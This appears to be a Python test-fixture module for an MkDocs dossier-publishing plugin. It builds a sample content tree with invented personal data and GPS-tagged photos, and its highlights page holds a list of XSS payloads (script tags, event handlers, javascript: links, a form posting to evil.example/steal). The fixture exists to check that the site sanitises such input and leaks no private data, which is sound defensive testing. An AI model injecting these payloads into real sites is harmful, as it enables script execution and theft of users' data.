"""A small content tree for the site tests, built from the good branch in tests/data/good.

Three branches over two years, two zones, narratives with hostile HTML, photos carrying
metadata, and members with personal data (names, phones, ID numbers, addresses) that must
never reach the site. Also: helpers to run `mkdocs build` and `checker` on it.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import struct
import subprocess
import sys
import zlib
from pathlib import Path

TESTS = Path(__file__).resolve().parent
REPO = TESTS.parent
GOOD = TESTS / "data" / "good"
SCHEMAS = REPO / "schemas"
TODAY = "2026-11-29"

# Personal data put into the roster and the branch contact: none of it may be published.
PRIVATE = {
    "M01": {
        "name": "欧阳晓梅",
        "phone": "13912345678",
        "id_number": "11010519491231002X",
        "address": "渤川市海滨区望海路十八号三单元",
        "note": "长期在外地挂职锻炼，组织关系暂留本支部",
    },
    "M02": {"name": "司马振华", "phone": "+86 137 0000 1234"},
}
CONTACT = {"name": "诸葛联络", "phone": "0539-88886666", "address": "渤川市政务中心八楼东侧"}
ABSENT_REASON = "因公出差赴省城参加业务培训请假"

XSS_HIGHLIGHTS = """\
# 特色亮点

- **党建品牌**：打造“红色账本”品牌，以党建带业务。
- **先锋岗**：设立党员先锋岗 3 个。
- **结对共建**：与社区结对开展志愿服务。

<script>alert("xss-script")</script>
<img src="x" onerror="alert('xss-img')">
<a href="javascript:alert('xss-link')">点我</a>
<a href="JaVaScRiPt:alert('xss-case')">大小写</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">数据</a>
<a href="vbscript:msgbox('xss-vb')">vb</a>
<iframe src="https://evil.example/frame"></iframe>
<object data="https://evil.example/x.swf"></object>
<embed src="https://evil.example/x.swf">
<form action="https://evil.example/steal"><input name="q"></form>
<div onclick="alert('xss-div')" style="background:url(javascript:alert(1))">带事件的段落</div>
<svg onload="alert('xss-svg')"><circle r="5"/></svg>
<img src="https://evil.example/pixel.png" alt="外部图片">
<p><a href="https://www.12371.cn/">共产党员网</a></p>

![活动室照片](evidence/活动室.png)

| 项目 | 数量 |
|---|---|
| 先锋岗 | 3 |
"""

SUMMARY = """\
# 年度工作总结

2025年，支部认真落实标准化建设各项要求，全年组织集中学习12次。

## 主要做法

1. 坚持“三会一课”制度；
2. 开展主题党日活动；
3. 落实谈心谈话制度。
"""


def png(width: int = 8, height: int = 6, colour: bytes = b"\xa0\x20\x20", extra=()) -> bytes:
    """A real PNG; ``extra`` chunks (type, data) go before IDAT, as metadata usually does."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    raw = b"".join(b"\x00" + colour * width for _ in range(height))
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = [chunk(b"IHDR", header)]
    body += [chunk(kind, data) for kind, data in extra]
    body += [chunk(b"IDAT", zlib.compress(raw)), chunk(b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(body)


PHOTO_METADATA = [
    (b"tEXt", b"Comment\x00GPSLatitude 39.9087 secret-location"),
    (b"eXIf", b"MM\x00*\x00\x00\x00\x08GPS-owner-serial-42"),
    (b"tIME", b"\x07\xea\x0b\x1d\x0c\x00\x00"),
]


def _replace_once(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, (path, old)
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _add_private(dossier: Path) -> None:
    text = dossier.read_text(encoding="utf-8")
    for member, fields in PRIVATE.items():
        lines = "".join(
            f"    {k}: {json.dumps(v, ensure_ascii=False)}\n" for k, v in fields.items()
        )
        text = text.replace(f"  - id: {member}\n", f"  - id: {member}\n{lines}", 1)
    # An absence with its reason: the site shows attendance as counts only.
    text = re.sub(
        r"(    present: (\d+)\n)",
        lambda m: m.group(1) + f'    absent_reasons: "{ABSENT_REASON}"\n',
        text,
        count=1,
    )
    dossier.write_text(text, encoding="utf-8")


def _copy_year(branch: Path, old: str, new: str) -> None:
    """Copy the year folder ``old`` to ``new``, moving every date into the new year."""
    source, target = branch / old, branch / new
    shutil.copytree(source, target)
    for path in sorted(target.rglob("*"), reverse=True):
        if old in path.name:
            path.rename(path.with_name(path.name.replace(old, new)))
    for name in ("dossier.yaml", "summary.md", "highlights.md"):
        path = target / name
        if path.is_file():
            path.write_text(path.read_text(encoding="utf-8").replace(old, new), encoding="utf-8")


def _remove_activities(dossier: Path, record_type: str, count: int) -> None:
    text = dossier.read_text(encoding="utf-8")
    pattern = re.compile(rf"^  - type: {re.escape(record_type)}\n(?:    .*\n)*", re.M)
    for _ in range(count):
        text = pattern.sub("", text, count=1)
    dossier.write_text(text, encoding="utf-8")


def build_tree(base: Path) -> Path:
    """Write the tree under ``base/content`` and return the content root.

    T-01 (zone Z1): full marks both years （示范），narratives with hostile HTML, photos with
    metadata, personal data in the roster. T-02 (Z1) and T-03 (Z2): the same dossier with
    meetings missing, so they lose points and tie with each other: 达标 in 2025, lower in
    2024.
    """
    content = base / "content"
    shutil.copytree(GOOD, content)
    org = content / "organization.yaml"
    text = org.read_text(encoding="utf-8")
    text = text.replace("organizations:\n", "  - id: Z2\n    name: 第二责任区\norganizations:\n")
    text = text.replace(
        "targets:\n",
        "  - id: ORG-02\n    name: 市交通运输局机关党委\n    level: city\n    zone: Z2\n"
        "targets:\n  2024: 0.5\n",
    )
    org.write_text(text, encoding="utf-8")

    t01 = content / "branches" / "T-01"
    contact = "contact:\n" + "".join(f'  {k}: "{v}"\n' for k, v in CONTACT.items())
    _replace_once(t01 / "branch.yaml", "established_on:", contact + "established_on:")
    year = t01 / "2025"
    _add_private(year / "dossier.yaml")
    (year / "evidence" / "先锋岗.png").write_bytes(png(extra=PHOTO_METADATA))
    (year / "evidence" / "活动室.png").write_bytes(png(12, 8, b"\xc8\xa0\x46", PHOTO_METADATA))
    (year / "highlights.md").write_text(XSS_HIGHLIGHTS, encoding="utf-8")
    (year / "summary.md").write_text(SUMMARY, encoding="utf-8")
    _copy_year(t01, "2025", "2024")

    for code, org_id in (("T-02", "ORG-01"), ("T-03", "ORG-02")):
        branch = content / "branches" / code
        shutil.copytree(t01, branch)
        for path in (branch / "branch.yaml", *branch.glob("*/dossier.yaml")):
            _replace_once(path, "T-01", code)
        _replace_once(branch / "branch.yaml", "市财政局第一党支部", f"市直测试{code[-1]}号党支部")
        _replace_once(branch / "branch.yaml", "organization: ORG-01", f"organization: {org_id}")
        for name in ("highlights.md", "summary.md"):
            for path in branch.glob(f"*/{name}"):
                path.unlink()
        for record_type in ("主题党日", "集中学习", "警示教育"):
            _remove_activities(branch / "2025" / "dossier.yaml", record_type, 99)
        for record_type in ("主题党日", "集中学习", "警示教育", "志愿服务", "党员大会", "党课"):
            _remove_activities(branch / "2024" / "dossier.yaml", record_type, 99)
    return content


MKDOCS_YML = """\
site_name: 测试站点
docs_dir: {docs}
site_dir: {site}
theme:
  name: material
  language: zh
  font: false
  custom_dir: {overrides}
  palette: {{scheme: default, primary: custom, accent: custom}}
  features: [navigation.tabs]
plugins:
  - dossier:
      content: {content}
      scope: {scope}
      pii: {pii}
      today: "{today}"
      cache: false
      jobs: 1
markdown_extensions: [admonition, attr_list, tables, toc]
extra:
  generator: false
extra_css: [assets/dossier/dossier.css, assets/dossier/print.css]
extra_javascript: [assets/dossier/tables.js]
"""


def write_config(base: Path, content: Path, scope: str = "internal", pii: str = "fail") -> Path:
    site = base / f"site-{scope}-{pii}"
    config = base / f"mkdocs-{scope}-{pii}.yml"
    config.write_text(
        MKDOCS_YML.format(
            docs=REPO / "site_overrides" / "docs",
            site=site,
            overrides=REPO / "site_overrides",
            content=content,
            scope=scope,
            pii=pii,
            today=TODAY,
        ),
        encoding="utf-8",
    )
    return config


def cached_config(base: Path, content: Path, scope: str = "internal", pii: str = "fail") -> Path:
    """``write_config`` with the result cache (and so the kept pages and index) turned on."""
    config = write_config(base, content, scope, pii)
    text = config.read_text(encoding="utf-8")
    cache = base / "cache"
    config.write_text(
        text.replace("cache: false", f"cache: true\n      cache_dir: {cache}"), encoding="utf-8"
    )
    return config


def mkdocs_build(
    config: Path, cwd: Path, extra_env: dict[str, str] | None = None, strict: bool = True
) -> subprocess.CompletedProcess:
    """`mkdocs build --strict -f CONFIG`, the real command, as a user would run it."""
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "CHECKER_SCHEMAS": str(SCHEMAS)}
    env.update(extra_env or {})
    mkdocs = Path(sys.executable).with_name("mkdocs")
    command = [str(mkdocs)] if mkdocs.exists() else [sys.executable, "-m", "mkdocs"]
    return subprocess.run(
        [*command, "build", *(["--strict"] if strict else []), "-f", str(config)],
        cwd=cwd,
        env=env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def built_site(
    tree: Path, scope: str, pii: str = "fail", extra_env: dict[str, str] | None = None
) -> Path:
    """The tree's content built in ``scope`` with no warning; the site folder."""
    config = write_config(tree, tree / "content", scope, pii)
    result = mkdocs_build(config, tree, extra_env)
    assert result.returncode == 0, result.stderr
    assert "WARNING" not in result.stderr
    return tree / f"site-{scope}-{pii}"


def checker_json(content: Path) -> dict:
    """`checker score --format json` on the tree: what the site must agree with."""
    from click.testing import CliRunner

    from checker.cli.main import cli

    result = CliRunner().invoke(
        cli,
        [
            "--schemas",
            str(SCHEMAS),
            "--today",
            TODAY,
            "--no-cache",
            "score",
            str(content),
            "--format",
            "json",
        ],
    )
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)


# The assessment inputs for the site's 考核排名 page, with numbers found nowhere else: a
# rater code, a ballot count or a single rating on any built file is a leak.
ASSESSMENT_RATERS = ("WY-301", "WY-302", "WY-303")  # not W01: the codes page names it
ASSESSMENT_CELLS = ("87.25", "93.75", "81.75", "88.5", "79.25", "96.25", "83.75")
ASSESSMENT_TALLIES = (217, 33, 199, 51, 238, 12, 186, 64, 250, 11, 13, 5, 14, 9, 6, 7)
ORG_03 = "  - id: ORG-03\n    name: 市审计局机关党委\n    level: city\n    zone: Z2\n"
ASSESSMENT_ORGS = {
    # ORG-01 holds T-01 and T-02 (8 members each), ORG-02 T-03, ORG-03 no branch at all.
    "ORG-01": (14, ["{好: 9, 较好: 5}", "{好: 14}", "{好: 11}", "{好: 13}"]),
    "ORG-02": (7, ["{好: 7}", "{好: 6}", "{好: 7}", "{好: 6}"]),
    "ORG-03": (250, ["{好: 217, 较好: 33}", "{好: 199, 较好: 51}", "{好: 238, 较好: 12}",
                     "{好: 186, 较好: 64}"]),
}  # fmt: skip
ASSESSMENT_TARGETS = {
    "ORG-01": "{T1: 14.5, T2: 13.5, T3: 18.5, T4: 14.5, T5: 14.5, T6: 17.5}",
    "ORG-02": "{T1: 13.5, T2: 14.5, T3: 17.5, T4: 12.5, T5: 13.5, T6: 19.5}",
    "ORG-03": "{T1: 12.5, T2: 12.5, T3: 16.5, T4: 13.5, T5: 14.5, T6: 16.5}",
}
PEERS = {
    "ORG-01": {"ORG-02": "87.25", "ORG-03": "93.75"},
    "ORG-02": {"ORG-01": "81.75", "ORG-03": "88.5"},
    "ORG-03": {"ORG-01": "79.25", "ORG-02": "96.25"},
}
COMMITTEE = {
    "WY-301": {"ORG-01": "83.75", "ORG-02": "90", "ORG-03": "80"},
    "WY-302": {"ORG-01": "86", "ORG-02": "84", "ORG-03": "91"},
    "WY-303": {"ORG-01": "88", "ORG-02": "85", "ORG-03": "82"},
}


def write_assessment(content: Path) -> Path:
    """A third organization in organization.yaml, and the 2025 inputs of all three."""
    _replace_once(content / "organization.yaml", "targets:\n", ORG_03 + "targets:\n")
    folder = content / "assessment" / "2025"
    (folder / "organizations").mkdir(parents=True)
    for org, (ballots, tallies) in ASSESSMENT_ORGS.items():
        questions = "".join(f"    Q{n}: {t}\n" for n, t in enumerate(tallies, 1))
        (folder / "organizations" / f"{org}.yaml").write_text(
            f"organization: {org}\nyear: 2025\nreported_on: 2025-12-20\n"
            f"targets: {ASSESSMENT_TARGETS[org]}\n"
            f"ballots:\n  ballots: {ballots}\n  questions:\n{questions}",
            "utf-8",
        )
    for name, matrix in (("peers", PEERS), ("committee", COMMITTEE)):
        rows = "".join(
            f"  - {{rater: {r}, scores: {{{', '.join(f'{o}: {v}' for o, v in s.items())}}}}}\n"
            for r, s in matrix.items()
        )
        (folder / f"{name}.yaml").write_text(f"year: 2025\nraters:\n{rows}", "utf-8")
    return folder


def checker_assess(content: Path, year: int = 2025) -> dict:
    """`checker assess --format json` on the tree: what the 考核排名 page must agree with."""
    from click.testing import CliRunner

    from checker.cli.main import cli

    result = CliRunner().invoke(
        cli,
        ["--schemas", str(SCHEMAS), "--today", TODAY, "--no-cache", "assess",
         "--year", str(year), "--content", str(content), "--format", "json"],
    )  # fmt: skip
    assert result.exit_code == 0, result.output
    return json.loads(result.stdout)
